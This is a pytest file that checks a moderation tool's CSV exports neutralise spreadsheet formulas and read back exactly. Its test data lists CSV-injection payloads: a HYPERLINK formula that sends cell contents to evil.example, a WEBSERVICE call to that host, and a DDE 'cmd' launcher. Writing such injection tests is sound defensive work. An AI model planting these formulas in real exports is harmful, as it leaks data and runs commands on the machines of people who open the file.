"""Exports a spreadsheet opens as data, never as formulas: the decisions CSV and the
audit CSV through the one writer (moderator.formats.csvsafe), and back in exactly."""

import csv

import pytest
from sqlalchemy import select, update

from moderator.formats import decisions as decisions_format
from moderator.formats.csvsafe import neutralise, unquote
from moderator.formats.export import export_decisions
from moderator.moderation.decisions import decide, reply
from moderator.reading.audit import AuditFilter, export_audit_csv
from moderator.storage.models import Comment

pytestmark = pytest.mark.both_databases

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "=WEBSERVICE(\"http://evil.example/\")", "+1+cmd", "-2+3", "\t=1", "'already quoted"]


def hostile_decisions(session) -> None:
    first, second = session.scalars(select(Comment.id).order_by(Comment.id).limit(2)).all()
    session.execute(update(Comment).where(Comment.id == first).values(author=FORMULAS[0], external_id="-17"))
    decide(session, [first], "hide", FORMULAS[2], reason="abuse", note=FORMULAS[1])
    decide(session, [second], "hide", "ana", reason="spam", note=FORMULAS[4])  # the demo's second is approved
    reply(session, first, FORMULAS[3], "ana")
    decide(session, [second], "restore", "ana", note=FORMULAS[6])
    session.commit()


def cells(path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_no_cell_of_either_export_starts_a_formula(demo_db, tmp_path):
    with demo_db.sessions() as session:
        hostile_decisions(session)
        export_decisions(session, tmp_path / "decisions.csv", file_format="csv")
        export_audit_csv(session, AuditFilter(), tmp_path / "audit.csv")
    for name in ("decisions.csv", "audit.csv"):
        written = cells(tmp_path / name)
        assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        assert "'" + FORMULAS[2] in written and "'" + FORMULAS[1] in written  # shown, as text


def test_the_decisions_csv_reads_back_exactly(demo_db, tmp_path):
    with demo_db.sessions() as session:
        hostile_decisions(session)
        export_decisions(session, tmp_path / "decisions.csv", file_format="csv")
    with (tmp_path / "decisions.csv").open("rb") as stream:
        records = list(decisions_format.parse(stream, "decisions.csv"))
    assert [r.note for r in records] == [FORMULAS[1], FORMULAS[4], "", FORMULAS[6]]
    assert records[0].moderator == FORMULAS[2] and records[0].external_id == "-17"
    assert records[2].reply_text == FORMULAS[3]


def test_neutralising_is_undone_exactly():
    for text in FORMULAS + ["plain", "", "a=b", "'", "''"]:
        assert unquote(neutralise(text)) == text
    assert neutralise(None) == "" and neutralise(-3) == "'-3" and neutralise(42) == "42"


def test_cli_export_is_neutralised_too(cli, paths, tmp_path):
    cli("demo")
    cli("decide", "1", "hide", "--reason", "abuse", "--note", FORMULAS[0])
    code, _, err = cli("export", "decisions", str(tmp_path / "out.csv"))
    assert code == 0, err
    assert "'" + FORMULAS[0] in cells(tmp_path / "out.csv")
